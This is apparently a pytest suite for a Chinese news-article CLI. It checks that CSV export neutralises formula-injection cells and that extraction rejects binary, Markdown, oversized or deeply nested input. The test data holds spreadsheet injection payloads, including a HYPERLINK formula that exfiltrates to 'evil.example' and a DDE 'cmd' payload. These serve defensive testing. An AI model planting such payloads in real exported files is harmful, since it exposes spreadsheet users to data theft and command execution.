"""What `cyz export` and `cyz extract` give back on hostile input: formula cells, huge
texts, binary and Markdown files, runaway nesting, an unwritable or full output.

Each test drives the real console script and reads its output; none may show a traceback.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from cyz.exit_codes import ExitCode
from cyz.index import open_engine
from cyz.record import TEXT_LIMIT, Article

REPO = Path(__file__).resolve().parents[1]

ARTICLE = ("12月4日，遵义市与重庆市江北区签署战略合作协议，双方将在产业协作、交通互联等领域深化合作，"
           "共同推动成渝地区双城经济圈建设。")


def cyz(*args: str, data_dir: Path, stdout=subprocess.PIPE) -> subprocess.CompletedProcess:
    environ = {k: v for k, v in os.environ.items() if not k.startswith(("CYZ_ENGINE", "CYZ_INDEX"))}
    environ.update({"CYZ_DATA_DIR": str(data_dir), "COLUMNS": "200"})
    return subprocess.run([sys.executable, "-m", "cyz.cli", *args], stdout=stdout,
                          stderr=subprocess.PIPE, text=True, env=environ, cwd=REPO, timeout=300)


def one_clear_line(proc: subprocess.CompletedProcess, *names: str) -> None:
    """A refusal: one line on stderr naming what failed, no traceback, no success message."""
    assert "Traceback" not in proc.stderr, proc.stderr
    lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1, proc.stderr
    for name in names:
        assert name in lines[0], lines[0]
    assert "wrote" not in proc.stderr


def store(data_dir: Path, *records: dict) -> None:
    engine = open_engine("sqlite", data_dir)
    try:
        engine.write(records)
    finally:
        engine.close()


def record(rid: str, title: str, text: str = ARTICLE, **fields) -> dict:
    return Article(id=rid, url=f"https://www.zunyi.gov.cn/{rid}.html", source_id="zunyi-gov",
                   title=title, text=text, title_zh=title, text_zh=text,
                   published_at="2024-12-05T09:30:00+08:00", **fields).model_dump()


def csv_rows(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


# ---------------------------------------------------------------- cyz export

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+86 851 2822", "-2+3*cmd|' /C calc'!A0",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def test_csv_export_neutralises_formula_cells(tmp_path):
    store(tmp_path, *(record(f"f{i}", title) for i, title in enumerate(FORMULAS)),
          record("ok", "遵义与重庆签约 - 成渝合作", origin="=cmd"))
    out = tmp_path / "export.csv"
    proc = cyz("export", "--format", "csv", "-o", str(out), data_dir=tmp_path)
    assert proc.returncode == 0, proc.stderr
    rows = {row["id"]: row for row in csv_rows(out)}
    for i, title in enumerate(FORMULAS):
        assert rows[f"f{i}"]["title"] == "'" + title
    assert rows["ok"]["title"] == "遵义与重庆签约 - 成渝合作"  # a dash inside is harmless
    assert rows["ok"]["origin"] == "'=cmd"  # every column, not only the title
    # JSON lines are data for programs, not a spreadsheet: titles stay verbatim.
    lines = cyz("export", data_dir=tmp_path).stdout.splitlines()
    assert {json.loads(line)["title"] for line in lines} >= set(FORMULAS)


def test_events_csv_export_neutralises_formula_cells(tmp_path):
    """`cyz export --events` writes CSV too: page text in an event (its sentence, a
    party, the title copied in) is neutralised the same way."""
    event = {"type": "agreement", "date": "2024-12-04", "date_precision": "day",
             "parties": ["=cmd|' /C calc'!A0", "江北区"], "places": ["遵义"],
             "sentence": '=HYPERLINK("http://evil.example/","签约")', "regions": ["遵义"]}
    store(tmp_path, record("ev", "@SUM(1+1)遵义签约", events=[event], event_types=["agreement"]))
    out = tmp_path / "events.csv"
    proc = cyz("export", "--events", "--format", "csv", "-o", str(out), data_dir=tmp_path)
    assert proc.returncode == 0, proc.stderr
    (row,) = csv_rows(out)
    assert row["sentence"] == "'" + event["sentence"]
    assert row["parties"].startswith("'=cmd")
    assert row["title"] == "'@SUM(1+1)遵义签约"


def test_csv_export_shows_topics_by_their_chinese_labels(tmp_path):
    store(tmp_path, record("t", "遵义与重庆签约", topics=["chengyu-circle", "agreement"]))
    out = tmp_path / "export.csv"
    assert cyz("export", "--format", "csv", "-o", str(out), data_dir=tmp_path).returncode == 0
    (row,) = csv_rows(out)
    assert row["topics"] == "成渝地区双城经济圈;签约协议"
    # JSON lines are for programs: the ids stay
    (line,) = cyz("export", data_dir=tmp_path).stdout.splitlines()
    assert json.loads(line)["topics"] == ["chengyu-circle", "agreement"]


def test_csv_cells_stop_at_excel_cell_limit(tmp_path):
    long_text = ARTICLE * 1000  # 58,000 characters: Excel would spill it over the next rows
    store(tmp_path, record("long", "长文", text=long_text), record("short", "短文"))
    out = tmp_path / "export.csv"
    assert cyz("export", "--format", "csv", "-o", str(out), data_dir=tmp_path).returncode == 0
    rows = {row["id"]: row for row in csv_rows(out)}
    assert len(rows) == 2
    cell = rows["long"]["text"]
    assert len(cell) <= 32_767 and cell.endswith("…")
    assert long_text.startswith(cell[:-1])
    assert rows["short"]["text"] == ARTICLE


def test_export_into_a_missing_directory_is_one_clear_line(tmp_path):
    store(tmp_path, record("a", "遵义与重庆签约"))
    target = tmp_path / "missing-dir" / "x.csv"
    proc = cyz("export", "--format", "csv", "-o", str(target), data_dir=tmp_path)
    assert proc.returncode == ExitCode.ERROR
    one_clear_line(proc, str(target))
    assert not target.parent.exists()


def test_export_to_a_full_device_is_one_clear_line(tmp_path):
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full on this system")
    store(tmp_path, record("a", "遵义与重庆签约"))
    proc = cyz("export", "--format", "csv", "-o", "/dev/full", data_dir=tmp_path)
    assert proc.returncode == ExitCode.NOT_STORED
    one_clear_line(proc, "/dev/full")
    with open("/dev/full", "w") as full:  # the same through a shell redirection
        proc = cyz("export", data_dir=tmp_path, stdout=full)
    assert proc.returncode == ExitCode.NOT_STORED
    one_clear_line(proc, "stdout")


@pytest.fixture
def tiny_disk(tmp_path):
    """A real 64 KiB tmpfs, for a disk that fills up mid-export (needs root)."""
    mount = tmp_path / "tiny"
    mount.mkdir()
    made = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount)],
                          capture_output=True)
    if made.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {made.stderr.decode(errors='replace').strip()}")
    try:
        yield mount
    finally:
        subprocess.run(["umount", str(mount)], check=True)


def test_export_filling_the_disk_leaves_no_half_written_file(tmp_path, tiny_disk):
    store(tmp_path, *(record(f"r{i}", f"遵义与重庆签约{i}", text=ARTICLE * 20) for i in range(40)))
    target = tiny_disk / "x.csv"
    proc = cyz("export", "--format", "csv", "-o", str(target), data_dir=tmp_path)
    assert proc.returncode == ExitCode.NOT_STORED
    one_clear_line(proc, str(target))
    assert not target.exists()  # a truncated CSV would open in Excel as if complete


# ---------------------------------------------------------------- cyz extract

def page_html(body: str, title: str = "遵义与重庆签约") -> str:
    return f"<html><head><title>{title}</title></head><body>{body}</body></html>"


def extract_json(path: Path, data_dir: Path) -> dict:
    proc = cyz("extract", str(path), "--json", data_dir=data_dir)
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    return json.loads(proc.stdout)


def png_bytes() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" + b"\xff\x00\x00" * 4)) + chunk(b"IEND", b""))


@pytest.mark.parametrize("name, content", [
    ("logo.png", png_bytes()),
    ("page.html", png_bytes()),  # the name lies; the bytes do not
    ("noise.bin", bytes(range(256)) * 80),
    ("noise.html", os.urandom(20_000)),
], ids=["png", "png-named-html", "all-bytes", "random-named-html"])
def test_extract_refuses_binary_files(tmp_path, name, content):
    path = tmp_path / name
    path.write_bytes(content)
    proc = cyz("extract", str(path), data_dir=tmp_path)
    assert proc.returncode == ExitCode.CONFIG
    one_clear_line(proc, str(path), "binary")
    assert proc.stdout == ""


def test_extract_refuses_markdown(tmp_path):
    readme = tmp_path / "notes"  # no suffix: the content tells
    readme.write_text((REPO / "README.md").read_text(encoding="utf-8"), encoding="utf-8")
    for path in (readme, REPO / "README.md"):
        proc = cyz("extract", str(path), data_dir=tmp_path)
        assert proc.returncode == ExitCode.CONFIG
        one_clear_line(proc, str(path), "Markdown")
        assert proc.stdout == ""
    assert "Markdown" in cyz("extract", "--help", data_dir=tmp_path).stdout


def test_extract_sniffs_html_and_plain_text_whatever_the_name(tmp_path):
    html = tmp_path / "saved-page"  # a page saved without a suffix is still HTML
    html.write_text(page_html(f"<div class='article'><p>{ARTICLE}</p><p>{ARTICLE}</p></div>"),
                    encoding="utf-8")
    rec = extract_json(html, tmp_path)
    assert rec["title"] == "遵义与重庆签约" and ARTICLE in rec["text"]
    broken = tmp_path / "broken.html"  # a transfer cut short left binary bytes after the page
    broken.write_bytes(html.read_bytes().replace(b"</body>", b"\x1f\x8b\x08\x00\x00\x00\x00\x03</body>"))
    assert ARTICLE in extract_json(broken, tmp_path)["text"]
    text = tmp_path / "copied.dat"  # plain text is taken as already-extracted text
    text.write_bytes(f"遵义与重庆签约\n2024-12-05 来源：遵义日报\n{ARTICLE}\n{ARTICLE}\n".encode("gb18030"))
    rec = extract_json(text, tmp_path)
    assert rec["title"] == "遵义与重庆签约" and rec["origin"] == "遵义日报"
    assert ARTICLE in rec["text"]  # GBK text is decoded like a page, not as UTF-8


def test_extract_caps_huge_texts(tmp_path):
    paragraphs = "".join(f"<p>第{i}段。{ARTICLE * 3}</p>" for i in range(1500))  # ≈ 265,000 chars
    big = tmp_path / "big.html"
    big.write_text(page_html(f"<div class='article'>{paragraphs}</div>"), encoding="utf-8")
    rec = extract_json(big, tmp_path)
    assert rec["text_truncated"] is True
    assert TEXT_LIMIT - 1000 <= len(rec["text"]) <= TEXT_LIMIT
    assert len(rec["text_zh"]) <= TEXT_LIMIT
    assert rec["text"].endswith("。")  # cut at a paragraph end, not mid-sentence
    small = tmp_path / "small.html"
    small.write_text(page_html(f"<div class='article'><p>{ARTICLE}</p></div>"), encoding="utf-8")
    assert extract_json(small, tmp_path)["text_truncated"] is False


def test_extract_finds_the_article_under_runaway_nesting(tmp_path):
    body = "".join(f"<p>{ARTICLE}第{i}段。</p>" for i in range(5))
    deep = tmp_path / "deep.html"
    deep.write_text(page_html("<div>" * 20_000 + body + "</div>" * 20_000 + "<p>版权所有</p>"),
                    encoding="utf-8")
    rec = extract_json(deep, tmp_path)
    assert rec["title"] == "遵义与重庆签约"
    for i in range(5):
        assert f"{ARTICLE}第{i}段。" in rec["text"].splitlines()
